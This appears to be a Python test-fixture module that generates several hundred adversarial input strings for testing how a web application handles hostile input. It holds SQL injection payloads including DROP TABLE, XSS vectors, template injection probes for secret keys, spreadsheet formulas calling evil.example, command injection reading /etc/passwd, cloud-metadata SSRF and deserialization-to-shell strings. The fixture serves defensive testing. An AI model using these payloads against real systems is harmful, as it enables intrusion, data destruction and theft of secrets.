"""Five hundred strings that somebody may want to have executed: written by us, form by form, and stored as plain text.

Each form is crossed with places where it could break out of something: a quote, a tag, a comment, a cell, a line.
"""

from __future__ import annotations

from itertools import chain, product

SQL = (
    "' OR 1=1 --", "'; DROP TABLE customers_customer; --", "' UNION SELECT NULL,version(),NULL --", "1; SELECT pg_sleep(5)",
    "') OR ('a'='a", "admin'--", "' AND 1=CAST((SELECT current_user) AS int) --", "\\'; SELECT 1; --", "'||(SELECT 1)||'",
    "$$; COPY (SELECT 1) TO '/tmp/x'; $$", "' OR pg_sleep(1) IS NULL --", "%' ESCAPE '!", "_%_%", "NULL", "\";SET search_path=t_b;--",
    "' OR EXISTS(SELECT 1 FROM t_b.customers_customer) --", "1 OR 1=1", "' ORDER BY 99 --", "0x27204f5220313d31", "':name; --",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>bold</b>", "</title><script>1</script>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "<!-- x -->",
    "<body onload=alert(1)>", "&lt;script&gt;", "&#60;script&#62;", "<math><mi xlink:href='data:x,1'>", "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=q>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<object data=x>", "<link rel=stylesheet href=//evil.example>", "<textarea autofocus onfocus=alert(1)>", "<x hx-get=/log-out/ hx-trigger=load>",
)  # fmt: skip
TEMPLATE = (
    "{{ 7*7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{% include '/etc/passwd' %}", "{% load i18n %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ request.user.password }}", "{# x #}", "{{''.__class__.__mro__}}", "%(name)s", "{0.__class__}", "{name!r}", "{{constructor.constructor('1')()}}",
    "[[${7*7}]]", "*{7*7}", "@{7*7}", "{{= 7*7 }}", "{php}1{/php}",
)  # fmt: skip
FORMULA = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "\t=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc", "%0A=1",
    "=WEBSERVICE(\"http://evil.example\")",
)  # fmt: skip
HEADER = (
    "x\r\nSet-Cookie: kith=1", "x\r\nLocation: http://evil.example", "x\nX-Evil: 1", "x\r\n\r\n<html>", "x%0d%0aX-Evil:1", "x\u2028X-Evil: 1",
    "x\u2029y", "x\x0bX: 1", "x\x0cX: 1", "x\x85X: 1", "Bcc: all@evil.example", "x\r\nContent-Length: 0",
)  # fmt: skip
SYSTEM = (
    "; cat /etc/passwd", "| id", "`id`", "$(id)", "&& whoami", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "\\\\evil.example\\share", "/dev/zero", "CON", "*)(uid=*))(|(uid=*",
    "' or '1'='1' or ''='", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system ['id']",
    "__import__('os').system('id')", "javascript:alert(1)", "data:text/html,<script>1</script>", "vbscript:x",
)  # fmt: skip
ODD = (
    "\u202egnp.exe", "\u200b", "\ufeffx", "A" * 180, "ﷺ" * 40, "Ω≈ç√∫", "👩‍👩‍👧‍👦", "Z̷̡͔a̸l̵g̶o̵", "null", "undefined", "NaN", "true", "[]", "{}", "-0", "1e999",
    "0x1F", "''", '""', "\\", "%", "%s%s%s%n", "\\u0041", "&amp;", "+", "ı İ ß ŉ", "\U0001f9ff", "١٢٣", "〇", "　",
)  # fmt: skip
WRAPS = ("{}", '"{}"', "'{}'", "x {} y", "{}\n{}")


def strings() -> list[str]:
    """All of them, each once; whatever the columns would strip or refuse for its length is left out."""
    forms = (*SQL, *HTML, *TEMPLATE, *FORMULA, *HEADER, *SYSTEM, *ODD)
    wrapped = (wrap.replace("{}", form) for form, wrap in product(forms, WRAPS))
    return [one for one in dict.fromkeys(chain(forms, wrapped)) if one == one.strip() and 0 < len(one) <= 200][:600]
